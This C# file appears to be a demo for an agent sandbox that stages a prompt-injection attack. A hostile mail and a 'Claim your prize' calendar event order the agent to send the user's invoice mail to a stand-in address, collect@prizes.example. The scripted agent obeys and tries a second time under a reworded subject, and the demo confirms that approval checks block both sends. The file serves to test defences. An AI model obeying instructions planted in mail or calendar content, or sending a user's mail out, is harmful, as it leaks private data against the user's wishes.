using System.Text.Json;
using ModelContextProtocol.Client;
using TokenVaultAgent.Sandbox.Activity;
using TokenVaultAgent.Sandbox.Hosting;
using TokenVaultAgent.Sandbox.People;

namespace TokenVaultAgent.Sandbox.Demo;

/// <summary>Orders that are hidden in a mail do not reach the agent. Those that anyone can read it may believe; the user is asked all the same.</summary>
internal sealed class HostileMail(DemoScreen screen, SandboxProduct product, Person ada)
{
    /// <summary>What Ada presses.</summary>
    public const string Button = "I did not ask for this";

    private const string Collector = "collect@prizes.example";

    /// <summary>Of the log: a step of an approval that its user reports.</summary>
    private const int Reported = 703;

    /// <returns>Whether nothing was sent.</returns>
    public async Task<bool> ShowAsync(McpClient client, CancellationToken cancellationToken)
    {
        var found = (await client.SucceedAsync("mail_search_messages", new() { ["query"] = "invoice 20931", ["account"] = "google" }, cancellationToken))
            .GetProperty("messages")[0];
        var read = await client.SucceedAsync(
            "mail_read_message", new() { ["account"] = found.GetProperty("account").GetString(), ["message_id"] = found.GetProperty("id").GetString() }, cancellationToken);
        screen.Quote("A mail, as its sender wrote it", Source(found.GetProperty("id").GetString()!));
        screen.Quote("What the agent gets of it: what a reader would see", read.GetProperty("untrusted_content").GetProperty("body").GetString()!.Trim());
        screen.Quote("An event whose orders a reader sees too", await EventAsync(client, cancellationToken));

        screen.Line($"The agent obeys, and would send her mail away:");
        ada.StopsAtDecisions = true;
        screen.Failure(await SendAsync("Invoices", client, cancellationToken));
        screen.Line($"[grey]The agent tries it once more, in other words; Ada is not asked again:[/]");
        screen.Failure(await SendAsync("Documents", client, cancellationToken));
        ada.StopsAtDecisions = false;

        foreach (var entry in product.Sandbox.Activity.Since(0).OfType<LogEntry>().Where(e => e.EventId == Reported))
            screen.Line($"[grey]In the operator's log:[/] {entry.Message}");
        return product.Sandbox.World.Read(accounts => accounts.SelectMany(a => a.Messages).All(m => m.Content.To.Mailboxes.All(to => to.Address != Collector)));
    }

    private string Source(string messageId) => product.Sandbox.World.Read(accounts =>
        accounts.SelectMany(a => a.Messages).First(m => m.Id == messageId).Content.HtmlBody!).Trim();

    private static async Task<string> EventAsync(McpClient client, CancellationToken cancellationToken)
    {
        var events = await client.SucceedAsync("calendar_list_events", new() { ["account"] = "google" }, cancellationToken);
        return events.GetProperty("events").EnumerateArray().Select(e => e.GetProperty("untrusted_content"))
            .First(words => words.TryGetProperty("title", out var title) && title.GetString() == "Claim your prize").GetProperty("description").GetString()!.Trim();
    }

    private static Task<JsonElement> SendAsync(string subject, McpClient client, CancellationToken cancellationToken) =>
        client.FailAsync("mail_send_message", new()
        {
            ["account"] = "google",
            ["to"] = new[] { Collector },
            ["subject"] = subject,
            ["body"] = "All that was found under 'invoice' in this mailbox: …",
            ["idempotency_key"] = Guid.NewGuid().ToString(),
        }, cancellationToken);
}
